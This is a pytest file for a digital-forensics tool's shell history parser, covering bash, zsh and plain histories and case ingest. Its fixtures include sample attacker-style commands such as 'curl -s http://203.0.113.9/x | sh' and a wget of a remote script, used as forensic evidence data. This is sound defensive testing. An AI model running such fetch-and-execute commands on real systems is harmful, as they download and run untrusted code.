"""Shell histories: bash with HISTTIMEFORMAT stamps, zsh extended history, plain histories
recognised by their file name only, through the ingest."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from pathlib import Path

import parsers
from forensics import Case
from parsers.base import Options
from parsers.shell_history import ShellHistoryParser
from tests.parsers.evtx_helpers import parse_file

PARSER = parsers.by_name("shell_history")
assert isinstance(PARSER, ShellHistoryParser)


def _commands(data: bytes) -> list[tuple]:
    rows = []
    for item in PARSER.parse(io.BytesIO(data), None, Options()):
        rows.extend(item.to_pylist())
    return [(r["source_record"], r["datetime"], r["process_command_line"], dict(r["fields"])) for r in rows]


def test_bash_history_with_timestamps(corpus: Path) -> None:
    rows, found = parse_file(PARSER, corpus / "linux/shell/plaso/bash_history")
    assert found == []
    assert [(r["source_record"], r["datetime"], r["process_command_line"]) for r in rows] == [
        (1, datetime(2013, 10, 1, 12, 36, 17, tzinfo=UTC), "/usr/lib/plaso"),
        (3, datetime(2013, 10, 1, 12, 36, 18, tzinfo=UTC), "/bin/bash"),
        (5, datetime(2013, 10, 1, 12, 36, 19, tzinfo=UTC), "/usr/local/bin/splunk -p 8080"),
        (7, datetime(2021, 6, 10, 22, 30, 36, tzinfo=UTC), 'binary argument1 "--params=\\\nparam1=foo,\nparam2=bar\n" argument2'),
    ]  # fmt: skip
    assert {(r["event_action"], r["message"] == r["process_command_line"]) for r in rows} == {
        ("command-executed", True)
    }


def test_zsh_extended_history(corpus: Path) -> None:
    rows, found = parse_file(PARSER, corpus / "linux/shell/plaso/zsh_extended_history.txt")
    assert found == []
    assert [(r["source_record"], r["datetime"], r["process_command_line"]) for r in rows] == [
        (1, datetime(2016, 3, 12, 8, 26, 50, tzinfo=UTC), "cd plaso"),
        (2, datetime(2016, 3, 12, 8, 26, 52, tzinfo=UTC), "ls"),
        (3, datetime(2016, 3, 26, 11, 54, 53, tzinfo=UTC), "echo dfgdfg \\\n& touch /tmp/afile"),
        (5, datetime(2016, 3, 26, 11, 54, 57, tzinfo=UTC), "PYTHONPATH=. ./runtests.py"),
    ]
    assert dict(rows[0]["fields"]) == {"shell": "zsh", "duration_seconds": "0"}


def test_plain_history_keeps_order_without_times() -> None:
    got = _commands(b"ls -la\ncd /tmp\n\nwget http://203.0.113.9/x.sh\n#just a comment\n")
    assert got == [
        (1, None, "ls -la", {"shell": "unknown"}),
        (2, None, "cd /tmp", {"shell": "unknown"}),
        (4, None, "wget http://203.0.113.9/x.sh", {"shell": "unknown"}),
        (5, None, "#just a comment", {"shell": "unknown"}),
    ]


def test_zsh_metafied_bytes_and_dangling_stamp() -> None:
    # "é" is c3 a9; zsh stores bytes from 0x83 as 0x83 then the byte xor 0x20.
    rows, found = [], []
    for item in PARSER.parse(
        io.BytesIO(b": 1457771210:3;echo caf\xc3\x83\x89\n#1380630977\n"), None, Options()
    ):
        if hasattr(item, "to_pylist"):
            rows.extend(item.to_pylist())
        else:
            found.append(item)
    assert [r["process_command_line"] for r in rows] == ["echo caf\u00e9"]
    assert [(w.location, w.offset, w.reason) for w in found] == [
        ("line 2", 27, "timestamp line with no command after it")
    ]


def test_sniffing_by_content_and_by_name() -> None:
    assert PARSER.sniff(b"#1380630977\n/usr/lib/plaso\n")
    assert PARSER.sniff(b": 1457771210:0;cd plaso\n")
    assert not PARSER.sniff(b"ls -la\ncd /tmp\n")  # plain: no content rule
    assert not PARSER.sniff(b"#1380630977\n#1380630978\n")
    plain = b"ls -la\ncd /tmp\n"
    assert parsers.sniff(plain) is None
    assert parsers.sniff(plain, "/home/bob/.bash_history") is PARSER
    assert parsers.sniff(plain, "C:\\case\\root\\.zsh_history") is PARSER
    assert parsers.sniff(plain, "/home/bob/notes.txt") is None
    assert parsers.sniff(b"\x00\x01\x02", "/home/bob/.bash_history") is None


def test_plain_history_through_the_ingest(tmp_path: Path) -> None:
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    (evidence / ".bash_history").write_bytes(b"id\nuname -a\ncurl -s http://203.0.113.9/x | sh\n")
    (evidence / "notes.txt").write_bytes(b"id\nuname -a\n")
    case = Case.open(tmp_path / "case")
    report = case.ingest([evidence], jobs=1)
    got = {Path(f.path).name: (f.status, f.parser, f.records) for f in report.files}
    assert got == {".bash_history": ("ok", "shell_history", 3), "notes.txt": ("unrecognised", None, 0)}
    rows = case.sql("SELECT source_record, process_command_line FROM timeline ORDER BY source_record")
    assert rows.process_command_line.tolist() == ["id", "uname -a", "curl -s http://203.0.113.9/x | sh"]
